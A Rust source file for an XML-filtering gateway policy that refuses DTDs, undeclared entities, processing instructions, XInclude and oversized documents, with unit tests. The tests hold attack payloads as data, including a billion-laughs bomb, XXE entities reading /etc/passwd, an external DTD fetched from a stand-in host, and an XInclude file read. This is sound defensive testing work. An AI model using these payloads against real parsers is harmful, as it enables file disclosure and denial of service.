//! `xml_protection`: every XML body (`text/xml`, `application/xml`, `application/soap+xml`,
//! `+xml`) read once with a streaming parser (quick-xml) under limits, and refused when it is
//! not plain, well-formed XML: DTDs (the door to entity expansion, XXE and billion laughs),
//! entity references other than the five predefined and character references, processing
//! instructions, XInclude, malformed markup, and past any limit. Nothing is ever expanded or
//! fetched: what the application would parse differently is refused, never passed.
//! A refusal of a SOAP request is a SOAP Fault (the renderer's).

use http::StatusCode;
use palisade_core::policies::SpecError;
use palisade_core::{
    Exchange, Mode, Outcome, Phase, PhaseSet, Policy, Rejection, RequestHead, Stage, Verdict,
};
use quick_xml::events::Event;
use quick_xml::Reader;
use serde::Deserialize;

/// A body that is not plain, well-formed XML.
pub const MALFORMED: &str = "xml.malformed";
/// A document type declaration.
pub const DTD: &str = "xml.dtd";
/// An entity reference that is not predefined.
pub const ENTITY: &str = "xml.entity";
/// A processing instruction or XInclude.
pub const INSTRUCTION: &str = "xml.instruction";
/// Past a limit.
pub const LIMIT: &str = "xml.limit";

/// Config of the `xml_protection` policy.
#[derive(Debug, Clone, Deserialize, schemars::JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct XmlProtectionSpec {
    /// `enforce` (default) or `monitor`.
    #[serde(default)]
    pub mode: Mode,
    /// Largest XML body, bytes. Default 1 MiB.
    #[serde(default)]
    pub max_bytes: Option<usize>,
    /// Deepest element nesting. Default 64.
    #[serde(default)]
    pub max_depth: Option<usize>,
    /// Most elements. Default 100,000.
    #[serde(default)]
    pub max_elements: Option<usize>,
    /// Most attributes of one element. Default 64.
    #[serde(default)]
    pub max_attributes: Option<usize>,
    /// Longest attribute value, bytes. Default 64 KiB.
    #[serde(default)]
    pub max_attribute_bytes: Option<usize>,
    /// Longest text or CDATA run, bytes. Default 1 MiB.
    #[serde(default)]
    pub max_text_bytes: Option<usize>,
    /// Most namespace declarations in the document. Default 256.
    #[serde(default)]
    pub max_namespaces: Option<usize>,
    /// Accept a DOCTYPE (its entities are still never expanded, and a reference to one is
    /// still refused). Weakens the protection: only for applications that need the
    /// declaration itself.
    #[serde(default)]
    pub dangerous_allow_dtd: bool,
}

/// The runtime policy.
#[derive(Debug)]
pub struct XmlProtection {
    limits: Limits,
    allow_dtd: bool,
}

#[derive(Debug, Clone, Copy)]
struct Limits {
    bytes: usize,
    depth: usize,
    elements: usize,
    attributes: usize,
    attribute_bytes: usize,
    text_bytes: usize,
    namespaces: usize,
}

impl XmlProtectionSpec {
    /// Builds the policy.
    pub fn build(&self) -> Result<XmlProtection, Vec<SpecError>> {
        let pick = |v: Option<usize>, d: usize, f: &str, errs: &mut Vec<SpecError>| match v {
            Some(0) => {
                errs.push(SpecError::new(f, "must be at least 1"));
                d
            }
            Some(n) => n,
            None => d,
        };
        let mut e = Vec::new();
        let limits = Limits {
            bytes: pick(self.max_bytes, 1 << 20, "max_bytes", &mut e),
            depth: pick(self.max_depth, 64, "max_depth", &mut e),
            elements: pick(self.max_elements, 100_000, "max_elements", &mut e),
            attributes: pick(self.max_attributes, 64, "max_attributes", &mut e),
            attribute_bytes: pick(
                self.max_attribute_bytes,
                64 << 10,
                "max_attribute_bytes",
                &mut e,
            ),
            text_bytes: pick(self.max_text_bytes, 1 << 20, "max_text_bytes", &mut e),
            namespaces: pick(self.max_namespaces, 256, "max_namespaces", &mut e),
        };
        if e.is_empty() {
            Ok(XmlProtection {
                limits,
                allow_dtd: self.dangerous_allow_dtd,
            })
        } else {
            Err(e)
        }
    }
}

/// Whether a media type is XML.
pub fn is_xml(content_type: &str) -> bool {
    let media = content_type
        .split(';')
        .next()
        .unwrap_or("")
        .trim()
        .to_ascii_lowercase();
    media == "text/xml" || media == "application/xml" || media.ends_with("+xml")
}

/// Why a document is refused: the code and what to tell the client.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    /// The code.
    pub code: &'static str,
    /// The detail.
    pub why: String,
}

fn refusal(code: &'static str, why: impl Into<String>) -> Refusal {
    Refusal {
        code,
        why: why.into(),
    }
}

const XINCLUDE: &str = "http://www.w3.org/2001/XInclude";

impl XmlProtection {
    /// Checks one document.
    pub fn check(&self, body: &[u8]) -> Result<(), Refusal> {
        let l = self.limits;
        if body.len() > l.bytes {
            return Err(refusal(
                LIMIT,
                format!("an XML body may have at most {} bytes", l.bytes),
            ));
        }
        let text = std::str::from_utf8(body)
            .map_err(|_| refusal(MALFORMED, "the XML body is not UTF-8"))?;
        let mut r = Reader::from_str(text);
        r.config_mut().check_end_names = true;
        let (mut depth, mut elements, mut namespaces) = (0usize, 0usize, 0usize);
        let mut roots = 0usize;
        loop {
            let ev = r.read_event().map_err(|e| {
                refusal(MALFORMED, format!("the XML body is not well-formed ({e})"))
            })?;
            let mut element =
                |e: &quick_xml::events::BytesStart<'_>, depth: usize| -> Result<(), Refusal> {
                    if depth == 0 {
                        roots += 1;
                        if roots > 1 {
                            return Err(refusal(MALFORMED, "an XML document has one root element"));
                        }
                    }
                    elements += 1;
                    if elements > l.elements {
                        return Err(refusal(
                            LIMIT,
                            format!("an XML body may have at most {} elements", l.elements),
                        ));
                    }
                    if depth + 1 > l.depth {
                        return Err(refusal(
                            LIMIT,
                            format!("XML elements may nest at most {} deep", l.depth),
                        ));
                    }
                    let mut count = 0;
                    for a in e.attributes() {
                        let a = a.map_err(|e| {
                            refusal(MALFORMED, format!("an attribute is not well-formed ({e})"))
                        })?;
                        count += 1;
                        if count > l.attributes {
                            return Err(refusal(
                                LIMIT,
                                format!(
                                    "an XML element may have at most {} attributes",
                                    l.attributes
                                ),
                            ));
                        }
                        if a.value.len() > l.attribute_bytes {
                            return Err(refusal(
                                LIMIT,
                                format!(
                                    "an XML attribute value may have at most {} bytes",
                                    l.attribute_bytes
                                ),
                            ));
                        }
                        let key = a.key.0;
                        if key == "xmlns" || key.starts_with("xmlns:") {
                            namespaces += 1;
                            if namespaces > l.namespaces {
                                return Err(refusal(
                                    LIMIT,
                                    format!(
                                        "an XML body may declare at most {} namespaces",
                                        l.namespaces
                                    ),
                                ));
                            }
                            if a.value.trim() == XINCLUDE {
                                return Err(refusal(INSTRUCTION, "XInclude is not accepted"));
                            }
                        }
                        check_refs(&a.value)?;
                    }
                    Ok(())
                };
            match ev {
                Event::Start(e) => {
                    element(&e, depth)?;
                    depth += 1;
                }
                Event::Empty(e) => element(&e, depth)?,
                Event::End(_) => depth = depth.saturating_sub(1),
                Event::Text(t) => {
                    if t.len() > l.text_bytes {
                        return Err(refusal(
                            LIMIT,
                            format!("an XML text may have at most {} bytes", l.text_bytes),
                        ));
                    }
                    if depth == 0 && !t.trim().is_empty() {
                        return Err(refusal(MALFORMED, "text outside the root element"));
                    }
                }
                Event::CData(c) => {
                    if c.len() > l.text_bytes {
                        return Err(refusal(
                            LIMIT,
                            format!("an XML text may have at most {} bytes", l.text_bytes),
                        ));
                    }
                    if depth == 0 {
                        return Err(refusal(MALFORMED, "CDATA outside the root element"));
                    }
                }
                Event::GeneralRef(g) => {
                    if depth == 0 {
                        return Err(refusal(MALFORMED, "a reference outside the root element"));
                    }
                    check_ref(&g)?;
                }
                Event::DocType(_) if self.allow_dtd => {}
                Event::DocType(_) => {
                    return Err(refusal(
                        DTD,
                        "a DOCTYPE is not accepted (entity expansion, external entities)",
                    ))
                }
                Event::PI(_) => {
                    return Err(refusal(
                        INSTRUCTION,
                        "processing instructions are not accepted",
                    ))
                }
                Event::Decl(d) => {
                    if let Some(Ok(enc)) = d.encoding() {
                        let enc = enc.to_ascii_lowercase();
                        if enc != "utf-8" && enc != "utf8" {
                            return Err(refusal(MALFORMED, "only UTF-8 XML is accepted"));
                        }
                    }
                }
                Event::Comment(_) => {}
                Event::Eof => break,
            }
        }
        if depth != 0 || roots == 0 {
            return Err(refusal(
                MALFORMED,
                "the XML body is not a complete document",
            ));
        }
        Ok(())
    }
}

/// A reference (`lt`, `#x41` …) must be predefined or a character reference.
fn check_ref(name: &str) -> Result<(), Refusal> {
    match palisade_core::xml::reference(name) {
        Some(c) if c != '\u{0}' => Ok(()),
        _ if name.starts_with('#') => Err(refusal(
            MALFORMED,
            "a character reference names no character",
        )),
        _ => Err(refusal(
            ENTITY,
            "only the predefined entities are accepted (&lt; &gt; &amp; &quot; &apos;)",
        )),
    }
}

/// The references inside an attribute value.
fn check_refs(value: &str) -> Result<(), Refusal> {
    let mut rest = value;
    while let Some(i) = rest.find('&') {
        let after = rest.get(i + 1..).unwrap_or("");
        let end = after
            .find(';')
            .ok_or_else(|| refusal(MALFORMED, "an & in an attribute starts no reference"))?;
        check_ref(after.get(..end).unwrap_or(""))?;
        rest = after.get(end + 1..).unwrap_or("");
    }
    Ok(())
}

#[async_trait::async_trait]
impl Policy for XmlProtection {
    fn kind(&self) -> &'static str {
        "xml_protection"
    }
    fn stage(&self) -> Stage {
        Stage::Validate
    }
    fn phases(&self) -> PhaseSet {
        PhaseSet::EMPTY.with(Phase::RequestBody)
    }

    async fn on_request_body(
        &self,
        req: &RequestHead,
        body: &bytes::Bytes,
        _x: &mut Exchange,
    ) -> Outcome {
        let xml = req
            .headers
            .get(http::header::CONTENT_TYPE)
            .and_then(|v| v.to_str().ok())
            .is_some_and(is_xml);
        if !xml || body.is_empty() {
            return Ok(Verdict::Continue);
        }
        Ok(match self.check(body) {
            Ok(()) => Verdict::Continue,
            Err(r) => {
                let status = if r.code == LIMIT && body.len() > self.limits.bytes {
                    StatusCode::PAYLOAD_TOO_LARGE
                } else {
                    StatusCode::BAD_REQUEST
                };
                Verdict::Reject(Rejection::new(status, r.code, "XML refused").with_detail(r.why))
            }
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn p() -> XmlProtection {
        XmlProtectionSpec {
            mode: Mode::Enforce,
            max_bytes: None,
            max_depth: Some(8),
            max_elements: Some(50),
            max_attributes: Some(4),
            max_attribute_bytes: Some(32),
            max_text_bytes: Some(64),
            max_namespaces: Some(4),
            dangerous_allow_dtd: false,
        }
        .build()
        .unwrap_or_else(|_| unreachable!())
    }

    fn code(doc: &str) -> Option<&'static str> {
        p().check(doc.as_bytes()).err().map(|r| r.code)
    }

    #[test]
    fn attacks_are_refused_with_their_codes() {
        let cases = [
            // billion laughs, XXE (file and URL), parameter entities
            (
                r#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>"#,
                DTD,
            ),
            (
                r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#,
                DTD,
            ),
            (
                r#"<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]><foo/>"#,
                DTD,
            ),
            // a reference to an entity nobody declared (the application's parser might)
            ("<foo>&xxe;</foo>", ENTITY),
            (r#"<foo a="&xxe;"/>"#, ENTITY),
            ("<?xml-stylesheet href=\"x.xsl\"?><foo/>", INSTRUCTION),
            ("<foo><?php system('id'); ?></foo>", INSTRUCTION),
            (
                r#"<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></foo>"#,
                INSTRUCTION,
            ),
            ("<a><b></a></b>", MALFORMED),
            ("<a>", MALFORMED),
            ("<a/><b/>", MALFORMED),
            ("text<a/>", MALFORMED),
            (r#"<a x="1" x="2"/>"#, MALFORMED),
            ("<a>&#0;</a>", MALFORMED),
            (
                r#"<?xml version="1.0" encoding="ISO-8859-1"?><a/>"#,
                MALFORMED,
            ),
            (
                "<a><a><a><a><a><a><a><a><a/></a></a></a></a></a></a></a></a>",
                LIMIT,
            ),
            (r#"<a b="1" c="2" d="3" e="4" f="5"/>"#, LIMIT),
            (
                r#"<a b="0123456789012345678901234567890123456789"/>"#,
                LIMIT,
            ),
            (
                r#"<a xmlns:a="u:1" xmlns:b="u:2" xmlns:c="u:3" xmlns:d="u:4" xmlns:e="u:5"/>"#,
                LIMIT,
            ),
        ];
        for (doc, want) in cases {
            assert_eq!(code(doc), Some(want), "{doc}");
        }
        let many: String = "<a>".to_string() + &"<b/>".repeat(60) + "</a>";
        assert_eq!(code(&many), Some(LIMIT));
        let long = format!("<a>{}</a>", "x".repeat(100));
        assert_eq!(code(&long), Some(LIMIT));
    }

    #[test]
    fn plain_documents_pass() {
        let good = [
            r#"<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOrder xmlns="urn:orders"><id>42</id></GetOrder></soap:Body></soap:Envelope>"#,
            "<note><!-- a comment --><to>Tove &amp; Jani</to><body><![CDATA[5 < 6]]></body><q>&#x41;&#66;</q></note>",
            r#"<a href="?x=1&amp;y=2">caf&#233;</a>"#,
        ];
        let defaults: XmlProtectionSpec =
            serde_json::from_value(serde_json::json!({})).unwrap_or_else(|_| unreachable!());
        let defaults = defaults.build().unwrap_or_else(|_| unreachable!());
        for doc in good {
            assert_eq!(defaults.check(doc.as_bytes()), Ok(()), "{doc}");
        }
        let allow = XmlProtectionSpec {
            dangerous_allow_dtd: true,
            ..serde_json::from_value(serde_json::json!({})).unwrap_or_else(|_| unreachable!())
        }
        .build()
        .unwrap_or_else(|_| unreachable!());
        // the declaration accepted, its entities still never used
        assert!(allow.check(b"<!DOCTYPE a><a/>").is_ok());
        assert_eq!(
            allow
                .check(br#"<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>"#)
                .err()
                .map(|r| r.code),
            Some(ENTITY)
        );
    }
}
